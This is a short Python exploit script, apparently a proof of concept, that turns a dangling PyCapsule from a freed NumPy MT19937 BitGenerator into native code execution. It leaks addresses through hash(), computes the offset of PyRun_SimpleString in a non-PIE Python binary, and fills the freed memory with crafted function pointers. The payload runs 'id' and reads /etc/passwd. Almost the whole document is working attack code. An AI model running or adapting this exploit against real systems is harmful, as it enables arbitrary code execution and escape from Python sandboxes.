# source: numpy/random/_bit_generator.pyx (BitGenerator.capsule = PyCapsule_New(&self._bitgen, "BitGenerator", NULL): no reference to its owner) and _generator.pyx Generator.__init__ (reads any object's .capsule/.lock, copies the bitgen_t function pointers); /usr/bin/python3.11 in the image is non-PIE
# family: dangling PyCapsule from a freed numpy BitGenerator -> Generator calls function pointers from memory the script wrote (native call of PyRun_SimpleString)
# goal: run arbitrary Python (import os, os.system("id"), read /etc/passwd)
import numpy as np

M64 = (1 << 64) - 1


def addr_of(o):
    h = hash(o) & M64
    return ((h << 4) | (h >> 60)) & M64


# fixed layout of the image's /usr/bin/python3.11 (non-PIE): PyRun_SimpleString - PyByteArray_Type
RUN = addr_of(bytearray) - 4753267


class Gate:
    def __enter__(self):
        return self

    def __exit__(self, et, ev, tb):
        return False


class Source:
    def __init__(self, capsule):
        self.capsule = capsule
        self.lock = Gate()


code = "import os; os.system('id'); print(open('/etc/' + 'passwd').read()[:300])"
gen = np.random.MT19937()
base = addr_of(gen) - 16
buf = bytearray(2623)
cmd = code.encode() + bytes(1)
buf[96:96 + len(cmd)] = cmd
fields = [base + 96, RUN, RUN, RUN, RUN]
for i, v in enumerate(fields):
    buf[48 + 8 * i:56 + 8 * i] = v.to_bytes(8, "little")
payload = bytes(buf)
cap = gen.capsule
del gen
keep = bytearray(payload)
rng = np.random.Generator(Source(cap))
rng.random()
